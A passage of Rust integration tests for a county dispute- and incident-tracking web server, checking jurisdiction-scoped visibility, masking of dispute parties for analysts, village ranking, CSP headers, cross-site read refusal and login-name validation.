    assert_eq!(s, 201, "{e}");
    // An old dispute there.
    let now = tests::test_now();
    let d = json!({"village": other.to_string(), "kind": "labour", "title": "欠薪-其他乡镇", "parties": "工人、包工头",
                   "mediator": "调委会", "opened_at": now - chrono::Duration::days(70)});
    assert_eq!(w.post_as(Role::County, "/api/disputes", d.to_string()).await.0, 201);
    // The township leader of the officer's home township sees only its own villages.
    let (s, desk) = w.get_as(Role::Township, &format!("/api/desk?officer={officer}")).await;
    assert_eq!(s, 200, "{desk}");
    let text = desk.to_string();
    assert!(!text.contains(&other.to_string()), "another township's village leaked: {text}");
    assert!(!text.contains("欠薪-其他乡镇"));
    assert!(
        desk["villages"]
            .as_array()
            .unwrap()
            .iter()
            .all(|v| v["village"]["code"].as_str().unwrap().starts_with(&own_township[..9]))
    );
    // The county sees both.
    let (_, desk) = w.get_as(Role::County, &format!("/api/desk?officer={officer}")).await;
    assert!(desk.to_string().contains(&other.to_string()));
}

#[tokio::test]
async fn the_backlog_tells_analysts_no_more_than_the_dispute_list_does() {
    let w = TestWorld::new(2_000).await;
    let village = w.state.live.desk().villages_of(w.state.geography.officers()[0].id)[0];
    let now = tests::test_now();
    let d = json!({"village": village.to_string(), "kind": "labour", "title": "张三欠薪二十万", "parties": "工人、包工头",
                   "mediator": "调委会", "opened_at": now - chrono::Duration::days(70)});
    let (s, made) = w.post_as(Role::Village, "/api/disputes", d.to_string()).await;
    assert_eq!(s, 201, "{made}");
    let id = made["id"].as_u64().unwrap();
    let (s, e) = w
        .post_as(Role::County, &format!("/api/backlog/dispute/{id}"), json!({"note": "约谈包工头李四"}).to_string())
        .await;
    assert_eq!(s, 201, "{e}");
    let one = format!("/api/disputes/{id}");
    for role in [Role::Analyst, Role::Admin] {
        for uri in ["/api/backlog", "/api/backlog/heat", "/api/disputes?status=all", one.as_str()] {
            let (s, body) = w.get_as(role, uri).await;
            assert_eq!(s, 200);
            let text = body.to_string();
            assert!(!text.contains("张三欠薪二十万") && !text.contains("李四"), "{role:?} {uri}: {text}");
            assert!(!text.contains("工人") && !text.contains("包工头"), "{role:?} {uri}: parties unmasked: {text}");
            assert!(text.contains("dispute") || text.contains("劳资"), "the case is still counted: {text}");
        }
    }
    let (_, board) = w.get_as(Role::County, "/api/backlog").await;
    assert!(board.to_string().contains("张三欠薪二十万") && board.to_string().contains("李四"), "handlers see it all");
}

#[tokio::test]
async fn a_village_rank_counts_only_villages_in_the_jurisdiction() {
    let w = TestWorld::new(4_000).await;
    let village = w.state.live.desk().villages_of(w.state.geography.officers()[0].id)[0];
    let (s, city) = w.get_as(Role::City, &format!("/api/villages/{village}")).await;
    assert_eq!(s, 200, "{city}");
    let (s, township) = w.get_as(Role::Township, &format!("/api/villages/{village}")).await;
    assert_eq!(s, 200, "{township}");
    let in_township = w
        .state
        .geography
        .regions()
        .iter()
        .filter(|r| r.region.level == model::RegionLevel::Village && r.region.code.to_string().starts_with("620602001"))
        .count();
    assert_eq!(township["county_villages"].as_u64(), Some(in_township as u64));
    assert!(city["county_villages"].as_u64().unwrap() > in_township as u64);
    assert!(township["county_rank"].as_u64().unwrap() <= city["county_rank"].as_u64().unwrap());
}

#[tokio::test]
async fn automatic_links_stay_inside_a_village() {
    let w = TestWorld::new(300).await;
    // Two points 20 m apart across a village border: the same event by distance and time.
    let (a, b) = border_pair(&w);
    let first = report(&w, Role::City, a).await;
    let second = report(&w, Role::City, b).await;
    assert_eq!(w.state.live.board().event_of(second), None, "not linked across villages");
    // Within the village, they are.
    let third = report(&w, Role::City, a).await;
    assert_eq!(w.state.live.board().event_of(third), Some(first));
}

/// Two points about 20 m apart in cells of different villages.
fn border_pair(w: &TestWorld) -> ((f64, f64), (f64, f64)) {
    let g = &w.state.geography;
    let start = point_in(w, "620602001000");
    for k in 1..2_000 {
        let (lon, lat) = (start.0 + f64::from(k) * 0.0002, start.1);
        let (here, there) = (g.locate(lon, lat), g.locate(lon + 0.0002, lat));
        if let (Some(h), Some(t)) = (here, there)
            && g.cell_code(h).village() != g.cell_code(t).village()
        {
            return ((lon, lat), (lon + 0.0002, lat));
        }
    }
    panic!("no village border east of {start:?}");
}

#[tokio::test]
async fn the_page_and_its_scripts_carry_their_own_policies() {
    let mut w = TestWorld::new(300).await;
    let web = tempfile::tempdir().unwrap();
    let loader = "import init from '/frontend.js';await init();";
    std::fs::write(
        web.path().join("index.html"),
        format!("<html><head><script type=\"module\">{loader}</script></head></html>"),
    )
    .unwrap();
    std::fs::create_dir(web.path().join("maplibre")).unwrap();
    std::fs::write(web.path().join("maplibre/maplibre-gl-worker.mjs"), "self.onmessage = () => {};").unwrap();
    w.state.web_dir = Some(web.path().to_owned());
    let csp = |uri: &'static str| {
        let app = w.app();
        async move {
            let res = app.oneshot(Request::get(uri).body(Body::empty()).unwrap()).await.unwrap();
            assert_eq!(res.status(), 200, "{uri}");
            res.headers().get("content-security-policy").map(|v| v.to_str().unwrap().to_owned())
        }
    };
    use base64::Engine;
    use sha2::Digest;
    let hash = base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(loader.as_bytes()));
    let page = csp("/").await.unwrap();
    assert!(page.contains(&format!("'sha256-{hash}'")) && page.contains("frame-ancestors 'none'"), "{page}");
    assert!(page.contains("connect-src 'self'"), "{page}");
    // The map's worker must be able to fetch tiles: no API policy on it.
    let worker = csp("/maplibre/maplibre-gl-worker.mjs").await;
    assert!(worker.as_deref().is_none_or(|p| !p.contains("default-src 'none'")), "{worker:?}");
    assert_eq!(csp("/api/health").await.as_deref(), Some(server::api::guard::API_CSP));
}

#[tokio::test]
async fn reads_from_another_sites_page_are_refused() {
    let w = TestWorld::new(2_000).await;
    let search_from = |site: &str| {
        let req = Request::get("/api/search?q=%E8%B7%AF%E5%8F%A3")
            .header("authorization", format!("Bearer {}", w.token(Role::City)))
            .header("sec-fetch-site", site)
            .body(Body::empty())
            .unwrap();
        call(w.app(), req)
    };
    assert_eq!(search_from("same-site").await.0, 403);
    assert!(audit_of(&w, "city").await.iter().all(|e| e.action != "search_incidents"), "no read in the victim's name");
    assert_eq!(search_from("same-origin").await.0, 200);
}

#[tokio::test]
async fn a_login_name_that_could_never_sign_in_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let args = |name: String| server::config::UserAddArgs {
        store: server::config::StoreArgs {
            data_dir: dir.path().to_owned(),
            database_url: None,
            db_pool: 1,
            memory_window_days: 400,
        },
        name,
        role: "city".into(),
        jurisdiction: Some("620600000000".into()),
        officer: None,
        department: None,
        grid_worker: None,
        password_stdin: true,
    };
    for name in ["x".repeat(server::auth::AUDIT_USERNAME_CHARS + 1), String::new(), "a\u{7}b".into()] {
        let e = server::cli::user_add(args(name.clone())).await.unwrap_err().to_string();
        assert!(e.contains("--name"), "{name:?}: {e}");
    }
}
